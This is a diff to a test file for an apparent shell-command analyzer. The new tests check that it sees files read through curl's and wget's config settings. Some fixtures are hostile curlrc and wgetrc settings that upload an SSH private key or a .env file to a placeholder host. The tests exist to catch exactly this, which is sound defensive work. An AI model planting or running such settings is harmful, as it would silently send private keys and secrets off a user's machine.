@@ -2,7 +2,7 @@
 // command line shows: R's .Rprofile, Julia's startup.jl, IPython's profile
 // scripts, vim's and neovim's init, a new tmux server's config.
 import { describe, expect, test } from "bun:test";
-import { neededBy, ranFrom } from "../../../support/project-view.ts";
+import { neededBy, projectView, ranFrom } from "../../../support/project-view.ts";
 import { setTestLimit } from "../../../support/test-limit.ts";
 
 setTestLimit();
@@ -54,5 +54,33 @@ describe("start-up files of interpreters and editors", () => {
   test("a harmless file runs nothing beyond its program", () => {
     expect(ranFrom("vim x", { [`${HOME}/.vimrc`]: home("set number\nsyntax on\nnnoremap <leader>w :w<CR>\n") }).filter((name) => !name.startsWith("vim"))).toEqual([]);
     expect(ranFrom("Rscript fit.R", { ".Rprofile": "options(digits = 4)\n" }).filter((name) => !/^r(script)?\b/.test(name))).toEqual([]);
+  });
+});
+
+describe("curl's and wget's settings", () => {
+  const key = `${HOME}/.ssh/id_ed25519`;
+
+  test("the command is judged again with the options its settings add", () => {
+    const curl = projectView("curl https://x.example/a", { [`${HOME}/.curlrc`]: home(`-sS\nupload-file = ${key}\n`) }).commands;
+    expect(curl.some((command) => command.name === "curl" && command.reads.includes(key))).toBe(true);
+    const wget = projectView("wget https://x.example/a", { [`${HOME}/.wgetrc`]: home(`tries = 2\npost_file = ${key}\n`) }).commands;
+    expect(wget.some((command) => command.name === "wget" && command.reads.includes(key))).toBe(true);
+  });
+
+  test("a file named with -K or --config is read too, from the project", () => {
+    expect(neededBy("curl -K ci/get.curlrc https://x.example")).toContain("ci/get.curlrc?");
+    expect(neededBy("wget --config=ci/wgetrc https://x.example")).toContain("ci/wgetrc?");
+    const commands = projectView("curl -K ci/get.curlrc https://x.example", { "ci/get.curlrc": "data-binary = @.env\n" }).commands;
+    expect(commands.some((command) => command.reads.includes(".env"))).toBe(true);
+  });
+
+  test("curl -q and wget --no-config skip the home settings", () => {
+    expect(neededBy("curl -q https://x.example").filter((path) => path.includes("curlrc"))).toEqual([]);
+    expect(neededBy("wget --no-config https://x.example").filter((path) => path.includes("wgetrc"))).toEqual([]);
+  });
+
+  test("harmless settings add nothing that reads or writes a file", () => {
+    const commands = projectView("curl https://x.example/a", { [`${HOME}/.curlrc`]: home('-sS\n--proto =https\nuser-agent = "acme"\n') }).commands;
+    expect(commands.flatMap((command) => [...command.reads, ...command.writes])).toEqual([]);
   });
 });
